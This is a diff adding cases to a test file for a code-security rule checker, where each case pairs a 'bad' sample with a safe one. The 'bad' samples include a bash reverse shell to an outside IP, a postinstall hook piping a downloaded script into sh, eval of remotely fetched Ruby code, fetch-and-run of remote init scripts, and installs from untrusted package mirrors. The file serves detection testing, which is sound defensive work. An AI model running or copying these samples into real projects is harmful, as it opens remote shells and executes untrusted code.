@@ -13,6 +13,10 @@ export const CODE_CASES: RuleCase[] = [
   { id: 'DX004', bad: [{ path: 'lib/plugins.rb', text: 'eval(Net::HTTP.get(URI(PLUGIN_INDEX)), TOPLEVEL_BINDING)' }], good: [{ path: 'lib/plugins.rb', text: 'index = JSON.parse(Net::HTTP.get(URI(PLUGIN_INDEX)))' }] },
   { id: 'DX011', bad: py('state = pickle.loads(blob)'), good: py('state = json.loads(blob)') },
   { id: 'DX012', bad: py('blob = urllib.request.urlopen(URL, timeout=10).read()'), good: py('blob = pathlib.Path("cache.bin").read_bytes()') },
+  { id: 'DX012', bad: [{ path: 'setup.rb', text: "script = URI.open('https://get.tools.example.net/init.sh').read" }], good: [{ path: 'setup.rb', text: "script = File.read('init.sh')" }] },
+  { id: 'DX013', bad: py('subprocess.run(["bash", path], check=True)'), good: py('subprocess.run(["git", "status"], check=True)') },
+  { id: 'DX014', bad: sh('npm install -g https://dl.tools-mirror.net/cli-2.3.1.tgz'), good: sh('pip install https://github.com/psf/black/archive/refs/tags/24.1.0.zip') },
+  { id: 'DX014', bad: sh('pip install --index-url https://pypi.fast-mirror.net/simple --trusted-host pypi.fast-mirror.net requests'), good: sh('pip install --index-url https://pypi.company.net/simple requests') },
   { id: 'DX006', bad: sh('nohup /tmp/.agent &'), good: sh('mkdir -p /tmp/build && cd /tmp/build') },
   { id: 'DX007', bad: pkg({ scripts: { postinstall: 'curl -s https://x.example/i.sh | sh' } }), good: pkg({ scripts: { postinstall: 'node scripts/setup.js' } }) },
   { id: 'RS001', bad: sh('bash -i >& /dev/tcp/1.2.3.4/4444 0>&1'), good: sh('timeout 1 bash -c "</dev/tcp/127.0.0.1/5432"') },
@@ -119,6 +123,11 @@ export const COMBO_CASES: RuleCase[] = [
     id: 'CB017',
     bad: py('blob = urllib.request.urlopen(BUCKET + name + ".pkl", timeout=20).read()\ntemplate = pickle.loads(blob)'),
     good: py('blob = urllib.request.urlopen(BUCKET + name + ".json", timeout=20).read()\ntemplate = json.loads(blob)'),
+  },
+  {
+    id: 'CB018',
+    bad: [{ path: 'bootstrap.rb', text: "script = URI.open('https://sh.tools-install.example.net/init.sh').read\nFile.write(path, script)\nsystem('sh', path, '-y')" }],
+    good: [{ path: 'bootstrap.rb', text: "notes = URI.open('https://api.github.com/repos/rust-lang/rust/releases/latest').read\nsystem('git', 'pull', '--ff-only')" }],
   },
   {
     id: 'CB006',
